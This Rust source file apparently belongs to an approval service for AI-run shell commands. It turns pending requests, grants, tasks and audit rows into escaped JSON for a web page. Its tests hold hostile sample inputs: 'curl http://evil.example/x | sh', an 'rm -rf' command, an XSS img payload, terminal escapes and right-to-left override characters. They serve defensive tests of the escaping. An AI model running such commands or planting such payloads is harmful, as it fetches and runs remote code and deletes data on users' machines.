//! What the API answers, as JSON for the page. Every text that came from a caller, a
//! tool or a model (actions, reasons, ids, summaries, task text) passes through the one
//! escaping function the CLI uses ([`Shown`]), so the page shows exactly what the
//! terminal would: a right-to-left override or a zero-width space is named, never
//! obeyed. The page then puts it in the DOM as text, never as markup.

use nl2sh_proto::channels::{PendingApproval, ProtocolState, ProtocolStatus, TaskRecord, UiGrant};
use nl2sh_proto::clock::rfc3339_seconds;
use nl2sh_proto::display::Shown;
use serde_json::{json, Map, Value};

fn shown(text: &str) -> String {
    Shown::new(text).to_string()
}

/// One pending request as the Approvals page shows it.
pub fn pending(p: &PendingApproval) -> Value {
    let mut v = json!({
        "id": shown(&p.id.0),
        "tool": shown(&p.tool),
        "risk": p.risk.as_str(),
        "requires_root": p.requires_root,
        "identity": p.identity.as_str(),
        "origin": p.origin.as_str(),
        "task": p.task.as_ref().map(|t| shown(&t.0)),
        "after_reading": p.after_reading.words().map(|w| shown(&w)),
        "reasons": p.reasons.iter().map(|r| shown(r)).collect::<Vec<_>>(),
        "seconds_left": p.seconds_left,
        "phrase": p.phrase.as_deref().map(shown),
        // What it carries (an `fs.write`'s content), whole, each line escaped.
        "data": p.data.as_ref().map(nl2sh_proto::carried::json),
        // Set when the request may be approved with a timed UI grant: the app it names.
        "ui_app": p.ui_app.as_deref().map(shown),
    });
    // Who asks, "as root", the command as sent and the argv as sent where it can be
    // (`action` then keeps a backslash single: `'\''` reads as a shell prints it).
    if let Some(fields) = v.as_object_mut() {
        fields.extend(nl2sh_proto::requester::shown_request(p));
    }
    v
}

/// One timed UI grant in force as the Approvals page lists it.
pub fn ui_grant(g: &UiGrant) -> Value {
    json!({
        "id": shown(&g.id),
        // The raw id too, for the page's Revoke (sent back, never shown).
        "ref": g.id,
        "app": shown(&g.app),
        "origin": g.origin.as_str(),
        "minutes": g.minutes,
        "seconds_left": g.seconds_left,
        "used": g.used,
    })
}

/// One line of the task list.
pub fn task_line(t: &TaskRecord) -> Value {
    json!({
        "id": shown(&t.id.0),
        // The raw id too, for the page to ask for this task again (sent back, never shown).
        "ref": t.id.0,
        "context_id": shown(&t.context_id.0),
        "state": t.state.as_a2a(),
        // Seconds are enough for a list; the document has the exact timestamp.
        "updated": rfc3339_seconds(t.updated_ms),
        // Cut to about a line of the list (`…` marks a cut) by the one reading of it.
        "goal": nl2sh_proto::requester::goal_of(&t.document).map(|g| shown(&g)),
    })
}

/// Every string inside `value` through [`Shown`] (keys too): a task document or an audit
/// row holds caller and model text anywhere.
pub fn shown_json(value: Value) -> Value {
    match value {
        Value::String(s) => Value::String(shown_long(&s)),
        Value::Array(items) => Value::Array(items.into_iter().map(shown_json).collect()),
        Value::Object(map) => Value::Object(
            map.into_iter()
                .map(|(k, v)| (shown(&k), shown_json(v)))
                .collect::<Map<String, Value>>(),
        ),
        other => other,
    }
}

/// One audit row as the Audit page shows it: every string through [`Shown`], but the
/// action as a shell prints it where that is safe (`'\''` with one backslash), else
/// escaped whole with `action_escaped` set, as the Approvals page shows it.
pub fn audit_row(row: Value) -> Value {
    let action = row
        .get("action")
        .and_then(Value::as_str)
        .map(|a| nl2sh_proto::display::as_sent(a, nl2sh_proto::limits::MAX_ACTION_BYTES));
    let mut shown = shown_json(row);
    if let (Some(action), Some(fields)) = (action, shown.as_object_mut()) {
        fields.insert("action".into(), Value::String(action.text));
        fields.insert("action_escaped".into(), Value::Bool(action.escaped));
    }
    shown
}

/// Long text (tool output, an answer) is shown up to the task document's own bound, not
/// cut at the one-line default.
fn shown_long(text: &str) -> String {
    Shown::new(text).max_bytes(64 * 1024).to_string()
}

/// One task whole: the A2A `Task` document with every string shown.
pub fn task(t: &TaskRecord) -> Value {
    match serde_json::from_str::<Value>(&t.document) {
        Ok(doc) => shown_json(doc),
        // approvald checked the document when it stored it; say so rather than fail.
        Err(_) => json!({ "id": shown(&t.id.0), "unreadable": true }),
    }
}

/// The "MCP / A2A" page's data: everything but the token.
pub fn connection(status: &ProtocolStatus, web_origin: &str, insecure_remote: bool) -> Value {
    let state = match status.state {
        ProtocolState::Running => "running",
        ProtocolState::Stopped => "stopped",
        ProtocolState::Unknown => "unknown",
    };
    let opt = |v: &Option<String>| v.as_deref().map(shown);
    json!({
        "state": state,
        "transport": opt(&status.transport),
        "version": shown(&status.version),
        "mcp_url": opt(&status.mcp_url),
        "a2a_url": opt(&status.a2a_url),
        "card_url": opt(&status.card_url),
        "listen": opt(&status.listen),
        "pid": status.pid,
        "since": opt(&status.since),
        "detail": shown(&status.detail),
        "config_path": shown(&status.config_path),
        "token_available": status.token.is_some(),
        "examples": status.examples,
        // Copied verbatim into a client's file: made by the supervisor from validated
        // URLs and the configuration path, never from a caller's text.
        "snippets": {
            "codex_toml": status.snippets.codex_toml,
            "mcp_servers_json": status.snippets.mcp_servers_json,
            "startup_command": status.snippets.startup_command,
            "a2a_request": status.snippets.a2a_request,
        },
        "web": { "origin": web_origin, "insecure_remote": insecure_remote },
        // While true, every console shows that every request is approved automatically.
        "auto_approve": status.running.auto_approve,
        // The settings saved but not yet used by the running process, each in words.
        "differs_from_saved": status.running.differs.iter().map(|d| shown(&d.key)).collect::<Vec<_>>(),
        "differences": status.running.differs.iter().map(|d| json!({
            "key": shown(&d.key), "saved": shown(&d.saved), "running": shown(&d.running),
        })).collect::<Vec<_>>(),
        "restart_command": shown(&status.running.restart_command),
        "token_source": opt(&status.running.token_source),
    })
}

#[cfg(test)]
mod tests {
    use super::*;
    use nl2sh_proto::channels::{
        ApprovalId, CallId, CallOrigin, ContextId, Identity, RiskLevel, TaskId, TaskState,
    };

    #[test]
    fn a_pending_request_shows_hostile_text_as_the_cli_does() {
        let p = PendingApproval {
            data: None,
            ui_app: None,
            id: ApprovalId("ab12".into()),
            call_id: CallId(1),
            origin: CallOrigin::McpHttp,
            task: Some(TaskId("t\u{1b}[2J".into())),
            after_reading: Default::default(),
            client: None,
            goal: None,
            sent: None,
            tool: "shell.exec".into(),
            action:
                "rm -rf /tmp/x \u{202e}fdp.exe <img src=x onerror=alert(1)> /c\u{fe0f} /b\u{e0100}"
                    .into(),
            risk: RiskLevel::Dangerous,
            requires_root: true,
            identity: Identity::Root,
            reasons: vec!["deletes\nfiles".into()],
            seconds_left: 99,
            phrase: Some("approve ab12".into()),
        };
        let v = pending(&p);
        assert_eq!(
            v["action"],
            "rm -rf /tmp/x \\u{202e}fdp.exe <img src=x onerror=alert(1)> /c\\u{fe0f} /b\\u{e0100}"
        );
        assert_eq!(v["task"], "t\\x1b[2J");
        assert_eq!(v["reasons"][0], "deletes\\nfiles");
        assert_eq!(v["risk"], "dangerous");
        assert_eq!(v["phrase"], "approve ab12");
        assert!(v["data"].is_null());
        assert!(v["ui_app"].is_null());
        let ui = PendingApproval {
            ui_app: Some("com.example.chat\u{202e}".into()),
            ..p.clone()
        };
        assert_eq!(pending(&ui)["ui_app"], "com.example.chat\\u{202e}");
        // A write's content: every line, escaped, with its size and hash.
        let p = PendingApproval {
            data: Some(nl2sh_proto::channels::ActionData::new(
                "content",
                b"curl http://evil.example/x | sh\n<script>\x1b[8m\n".to_vec(),
            )),
            ..p
        };
        let v = pending(&p);
        assert_eq!(v["data"]["size"], 45);
        assert_eq!(
            v["data"]["lines"],
            json!(["curl http://evil.example/x | sh", "<script>\\x1b[8m"])
        );
        assert!(v["data"]["header"]
            .as_str()
            .is_some_and(|h| h.starts_with("content: 45 bytes, 2 lines, sha256 ")));
    }

    #[test]
    fn a_timed_ui_grant_is_listed_with_its_id_to_revoke() {
        let g = UiGrant {
            id: "g1\u{1b}".into(),
            app: "com.example.chat".into(),
            origin: CallOrigin::AgentHttp,
            minutes: 10,
            seconds_left: 599,
            used: 3,
        };
        assert_eq!(
            ui_grant(&g),
            json!({"id": "g1\\x1b", "ref": "g1\u{1b}", "app": "com.example.chat",
                   "origin": "agent_http", "minutes": 10, "seconds_left": 599, "used": 3})
        );
    }

    #[test]
    fn task_documents_are_shown_string_by_string() {
        let t = TaskRecord {
            id: TaskId("t1".into()),
            context_id: ContextId("c1".into()),
            state: TaskState::Completed,
            updated_ms: 1_764_547_200_000,
            document: r#"{"id":"t1","history":[{"parts":[{"text":"a\u0007b"}]}]}"#.into(),
        };
        assert_eq!(task(&t)["history"][0]["parts"][0]["text"], "a\\x07b");
        assert_eq!(task_line(&t)["updated"], "2025-12-01T00:00:00Z");
        assert_eq!(task_line(&t)["state"], "TASK_STATE_COMPLETED");
        // No user message: no goal.
        assert!(task_line(&t)["goal"].is_null());
    }

    #[test]
    fn an_audit_row_shows_its_action_as_a_shell_prints_it() {
        let v = audit_row(json!({"action": r"/bin/sh -c 'echo '\''hi'\'''", "reason": "a\u{1b}b"}));
        assert_eq!(v["action"], r"/bin/sh -c 'echo '\''hi'\'''");
        assert_eq!(v["action_escaped"], false);
        assert_eq!(v["reason"], r"a\x1bb");
        let v = audit_row(json!({"action": "rm /tmp/\u{202e}x"}));
        assert_eq!(v["action"], r"rm /tmp/\u{202e}x");
        assert_eq!(v["action_escaped"], true);
        // A row without an action gets none.
        assert!(audit_row(json!({"kind": "decision"}))
            .get("action")
            .is_none());
    }

    #[test]
    fn a_task_line_shows_its_goal_escaped_and_cut_to_a_line() {
        let doc = json!({"id": "t2", "history": [
            {"role": "ROLE_AGENT", "parts": [{"text": "not this"}]},
            {"role": "ROLE_USER", "parts": [{"data": {}}, {"text": "clear the\ndownloads \u{202e}"}]},
            {"role": "ROLE_USER", "parts": [{"text": "nor this"}]},
        ]});
        let t = TaskRecord {
            id: TaskId("t2".into()),
            context_id: ContextId("c2".into()),
            state: TaskState::Working,
            updated_ms: 0,
            document: doc.to_string(),
        };
        assert_eq!(task_line(&t)["goal"], "clear the\\ndownloads \\u{202e}");
        let long = TaskRecord {
            document:
                json!({"history": [{"role": "ROLE_USER", "parts": [{"text": "x".repeat(500)}]}]})
                    .to_string(),
            ..t
        };
        let goal = task_line(&long)["goal"]
            .as_str()
            .unwrap_or_default()
            .to_owned();
        assert_eq!(goal, format!("{}…", "x".repeat(160)));
    }
}
